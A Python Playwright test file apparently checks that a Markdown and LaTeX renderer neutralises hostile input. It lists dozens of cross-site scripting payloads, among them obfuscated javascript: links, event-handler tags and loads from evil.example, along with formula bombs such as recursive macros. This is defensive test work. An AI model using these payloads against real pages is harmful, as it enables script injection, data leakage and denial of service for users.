"""A hostile Markdown text runs no script, sends no request, and links to pages or mail only."""

import pytest
from playwright.sync_api import Browser, Page

from tests.playground.chromium import skip_unless_chromium
from tests.playground.markdown.drawing import Drawing
from tests.playground.test_long_answers import LONGEST_S, TASKS, task_seconds

# Each attack would set `window.attacked` or send a request to another host if it worked.
SCRIPT = "window.attacked=1"
ATTACKS = [
    f"<script>{SCRIPT}</script>",
    f"<SCRIPT SRC=https://evil.example/x.js></SCRIPT>{SCRIPT}",
    f"<scr<script>ipt>{SCRIPT}</scr</script>ipt>",
    f'<img src=x onerror="{SCRIPT}">',
    f"<img/src=x/onerror={SCRIPT}>",
    f"<svg onload={SCRIPT}>",
    f"<svg><script>{SCRIPT}</script></svg>",
    f'<svg><a xlink:href="javascript:{SCRIPT}"><text>x</text></a></svg>',
    f"<math><maction xlink:href=javascript:{SCRIPT}>x</maction></math>",
    f'<iframe src="javascript:{SCRIPT}"></iframe>',
    f'<iframe srcdoc="<script>parent.{SCRIPT}</script>"></iframe>',
    '<object data="https://evil.example/x.swf"></object>',
    '<embed src="https://evil.example/x">',
    '<link rel=stylesheet href="https://evil.example/x.css">',
    '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    '<base href="https://evil.example/">',
    '<form action="https://evil.example/"><input type=submit autofocus></form>',
    f'<details open ontoggle="{SCRIPT}">x</details>',
    f'<body onload="{SCRIPT}">',
    f'<input autofocus onfocus="{SCRIPT}">',
    f'<video><source onerror="{SCRIPT}"></video>',
    '<style>body{background:url("https://evil.example/x")}</style>',
    f"<div style=\"background:url('javascript:{SCRIPT}')\">x</div>",
    f'<template><script>{SCRIPT}</script></template>',
    f"<!--><script>{SCRIPT}</script>-->",
    f"<![CDATA[<script>{SCRIPT}</script>]]>",
    f"[a](javascript:{SCRIPT})",
    f"[a](JaVaScRiPt:{SCRIPT})",
    f"[a]( javascript:{SCRIPT} )",
    f"[a](<javascript:{SCRIPT}>)",
    f"[a](<java\tscript:{SCRIPT}>)",
    f"[a](<\x01javascript:{SCRIPT}>)",
    f"[a](\u00a0javascript:{SCRIPT})",
    f"[a](java&#x0A;script:{SCRIPT})",
    f"[a](java&#9;script:{SCRIPT})",
    f"[a](&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;{SCRIPT})",
    f"[a](&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;{SCRIPT})",
    f"[a](javascript&colon;{SCRIPT})",
    f"[a](java\\script\\:{SCRIPT})",
    f"[a](javascript://https://good.example/%0a{SCRIPT})",
    f"[a](vbscript:{SCRIPT})",
    f"[a](data:text/html,<script>opener.{SCRIPT}</script>)",
    "[a](data:text/html;base64,PHNjcmlwdD53aW5kb3cuYXR0YWNrZWQ9MTwvc2NyaXB0Pg==)",
    f"[a](blob:{SCRIPT})",
    "[a](file:///etc/passwd)",
    f"[a](view-source:javascript:{SCRIPT})",
    f"[a](\uff4aavascript:{SCRIPT})",
    f"[a](\u202ejavascript:{SCRIPT})",
    "[a](//evil.example/) [b](\\\\evil.example) [c](/\\evil.example)",
    f'[a](https://good.example/"onmouseover="{SCRIPT}")',
    f"[a](https://good.example/ \"x' onmouseover='{SCRIPT}\")",
    f"[a](https://good.example/'onclick='{SCRIPT}')",
    f"<javascript:{SCRIPT}>",
    f"<JAVASCRIPT:{SCRIPT}> <data:text/html,x>",
    "![a](https://evil.example/x.png)",
    "![a](https://evil.example/x.png \"t\")![b][c]\n\n[c]: https://evil.example/y.png",
    f"![a](javascript:{SCRIPT})",
    f'![a" onerror="{SCRIPT}](https://evil.example/x)',
    f"[![a](https://evil.example/x.png)](javascript:{SCRIPT})",
    f"[a]: javascript:{SCRIPT}\n\n[a]",
    f"| a |\n|---|\n| <img src=x onerror={SCRIPT}> |\n| [a](javascript:{SCRIPT}) |",
    f'```"><script>{SCRIPT}</script>\ncode\n```',
    f"```constructor\n<script>{SCRIPT}</script>\n```",
    "```__proto__\nx\n```\n```toString\ny\n```",
    f"```html\n<script>{SCRIPT}</script>\n```",
    f"# <img src=x onerror={SCRIPT}>\n\n> <svg/onload={SCRIPT}>\n\n- [ ] <b onclick={SCRIPT}>x</b>",
    f"$<img src=x onerror={SCRIPT}>$ \\(<script>{SCRIPT}</script>\\)",
    f"&lt;script&gt;{SCRIPT}&lt;/script&gt;",
    f"`<script>{SCRIPT}</script>` **<script>{SCRIPT}</script>**",
    "http://\u0000evil https://[::1 https://a b",
    f"https://good.example/<script>{SCRIPT}</script>",
    f'https://good.example/"onmouseover="{SCRIPT}',
    f"mailto:a@b.c?body=<script>{SCRIPT}</script> <mailto:a@b.c>",
    f"$\\href{{javascript:{SCRIPT}}}{{x}}$ $\\url{{javascript:{SCRIPT}}}$",
    "$$\\includegraphics[width=9em]{https://evil.example/x.png}$$",
    "$\\class{primary}{x} \\id{prompt}{x} \\cssId{prompt}{x}$ $\\data{tex=y}{x}$",
    f"$\\htmlData{{onclick={SCRIPT}}}{{x}}$ $\\htmlStyle{{background:url(//evil.example)}}{{x}}$",
    "$\\style{background:url(https://evil.example/x)}{x}$ $\\color{url(//evil.example)}x$",
    "$\\colorbox{red;background:url(//evil.example)}{x}$ $\\textcolor{#fff;x:y}{x}$",
    "\\begin{align} x \\label{prompt} \\tag{<img src=//evil.example>} \\end{align} $\\ref{prompt}$",
    f"$\\text{{<img src=x onerror={SCRIPT}>}}$ $\\unicode{{<script>{SCRIPT}</script>}}$",
    "$\\def\\constructor{x} \\constructor \\__proto__ \\toString$",
    f"$\\ce{{<b onclick={SCRIPT}>}}$",
    "$\\begin{constructor}x\\end{constructor}$ $\\begin{__proto__}x\\end{__proto__}$",
]  # fmt: skip
GROWING = {
    "braces": "{" * 100_000 + "x" + "}" * 100_000,
    "braces without end": "{" * 4_000,
    "a megabyte": "x^2 + \\frac{a}{b} " * 60_000,
    "fractions": "\\frac{1}{" * 450 + "x" + "}" * 450,
    "roots": "\\sqrt{" * 700 + "x" + "}" * 700,
    "powers": "x^{" * 1_000 + "x" + "}" * 1_000,
    "boxes": "\\boxed{" * 90 + "x" + "}" * 90,
    "lines": "\\overline{" * 90 + "x" + "}" * 90,
    "parentheses": "\\left(" * 90 + "x" + "\\right)" * 90,
    "matrices": "\\begin{matrix}" * 24 + "x" + "\\end{matrix}" * 24,
    "cells": "\\begin{matrix}" + "&" * 4_900 + "\\end{matrix}",
    "rows": "\\begin{matrix}" + "\\\\ " * 1_600 + "\\end{matrix}",
    "sums": "x+" * 2_490,
    "macros": "\\def\\a{\\a\\a}\\a",
    "long macros": "\\def\\a{" + "x" * 2_000 + "}" + "\\a" * 900,
    "macros of macros": "\\def\\a{xxxxxxxxxx}\\def\\b{"
    + "\\a" * 10
    + "}\\def\\c{"
    + "\\b" * 10
    + "}\\c",
    "new commands": "\\newcommand{\\a}{" + "x" * 180 + "}" + "\\a" * 90,
    "definitions": "\\edef\\a{xxxxxxxxxx}" + "\\edef\\a{\\a\\a}" * 18 + "\\a",
    "spaces": "\\rule{9999em}{9999em}\\hspace{9999em}\\kern9999em\\raisebox{9999em}{x}",
    "chemistry": "\\ce{" + "H2O + " * 98 + "}",
    "primes": "x" + "'" * 4_900,
    "accents": "\\hat{" * 90 + "x" + "}" * 90,
    "colours": "\\color{red}" * 450 + "x",
}
TAGS = {
    *(
        "a",
        "blockquote",
        "br",
        "button",
        "code",
        "del",
        "div",
        "em",
        "h3",
        "h4",
        "h5",
        "h6",
        "hr",
        "input",
        "li",
        "ol",
        "p",
    ),
    *("pre", "span", "strong", "table", "tbody", "td", "th", "thead", "tr", "ul"),
    *("math", "mfrac", "mi", "mn", "mo", "mover", "mpadded", "mrow", "mspace", "mstyle"),
    *("mtable", "mtd", "mtext", "mtr", "msub", "msup", "msubsup", "menclose", "mphantom"),
}
ATTRIBUTES = {
    *(
        "aria-label",
        "aria-pressed",
        "checked",
        "class",
        "data-label",
        "disabled",
        "href",
        "rel",
        "role",
        "scope",
        "start",
        "tabindex",
    ),
    *("data-tex", "dir", "target", "title", "type"),
    # of MathML; `style` is set by single properties of a list
    *("accent", "columnalign", "depth", "display", "displaystyle", "fence", "form", "height"),
    *("lspace", "mathcolor", "mathvariant", "maxsize", "minsize", "rspace", "scriptlevel"),
    *("separator", "stretchy", "style", "voffset", "width"),
}


@pytest.mark.parametrize("text", ATTACKS)
def test_an_attack_has_no_effect(drawing: Drawing, page: Page, text: str) -> None:
    """Draws an attack; after the test, the fixture `page` checks that the page sent no request."""
    drawing.draw(text)
    assert (
        set(page.evaluate("[...document.querySelectorAll('main *')].map(node => node.localName)"))
        <= TAGS
    )
    names = "[...document.querySelectorAll('main *')].flatMap(node => node.getAttributeNames())"
    assert set(page.evaluate(names)) <= ATTRIBUTES
    for href in page.evaluate("[...document.querySelectorAll('main a')].map(node => node.href)"):
        assert href.startswith(("http://", "https://", "mailto:"))
    styles = "[...document.querySelectorAll('main [style]')].map(node => node.style.cssText)"
    assert "url" not in "".join(page.evaluate(styles))
    for node in page.locator("main :is(img, button, summary)").all():
        node.click()
    assert page.evaluate("window.attacked") is None


@pytest.mark.parametrize("name", GROWING)
def test_a_formula_that_grows_is_bounded(drawing: Drawing, page: Page, name: str) -> None:
    drawing.draw(f"$$\n{GROWING[name]}\n$$")
    assert page.locator("main .formula").count() == 1
    assert page.locator("main *").count() < 6_100
    size = (
        "(box => [box.width, box.height])(document.querySelector('main').getBoundingClientRect())"
    )
    width, height = page.evaluate(size)
    assert width <= page.evaluate("innerWidth") and height < 40_000  # Firefox has higher rows


def test_a_formula_stays_in_its_place(drawing: Drawing, page: Page) -> None:
    """A formula cannot be shown over the text above it."""
    text = "\\raisebox{20em}{\\colorbox{red}{$x$}} \\kern-40em \\rule{20em}{20em}"
    drawing.draw(f"`above`\n\n$$\n{text}\n$$\n\n${text}$")
    top = (
        "document.elementFromPoint(...(box => [box.x + 5, box.y + 5])({}.getBoundingClientRect()))"
    )
    target = "document.querySelector('main p code')"
    assert page.evaluate(f"{top.replace('{}', target)} === {target}")


@pytest.mark.release("hostile formulas, watched for tasks over 100 ms of CPU")
def test_no_hostile_formula_makes_a_long_task(
    browser: Browser, drawing: Drawing, page: Page
) -> None:
    skip_unless_chromium(page)
    drawing.draw("$x$ $\\ce{H2O}$")  # loads Temml
    browser.start_tracing(page=page, categories=TASKS)
    for tex in GROWING.values():
        drawing.draw(f"$$\n{tex}\n$$")
        page.evaluate("new Promise(requestAnimationFrame)")
    seconds = task_seconds(browser.stop_tracing())
    assert [each for each in seconds if each > LONGEST_S] == []


def test_the_attacks_are_at_least_fifty() -> None:
    assert len(set(ATTACKS)) >= 50
